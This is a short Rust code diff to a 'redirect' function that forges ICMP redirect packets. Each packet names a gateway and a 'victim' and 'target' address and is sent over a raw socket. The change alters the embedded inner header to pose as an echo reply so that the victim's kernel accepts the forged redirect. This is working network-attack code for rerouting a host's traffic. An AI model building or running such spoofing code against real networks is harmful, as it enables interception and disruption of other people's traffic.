@@ -36,10 +36,11 @@ pub(super) fn redirect(words: &mut Words) -> Outcome {
     words.end()?;
     let mut message = vec![5, 1, 0, 0];
     message.extend(by.octets());
-    message.extend([0x45, 0, 0, 28, 0, 0, 0, 0, 64, 17, 0, 0]);
+    // About an echo reply, because the kernel sent it and needs no socket to believe this.
+    message.extend([0x45, 0, 0, 28, 0, 0, 0, 0, 64, 1, 0, 0]);
     message.extend(victim.octets());
     message.extend(target.octets());
-    message.extend([0x23, 0x29, 0x23, 0x29, 0, 8, 0, 0]);
+    message.extend([0; 8]);
     let checksum = checksum(&message);
     message[2..4].copy_from_slice(&checksum.to_be_bytes());
     let socket = Socket::new(Domain::IPV4, Type::RAW, Some(Protocol::ICMPV4))?;
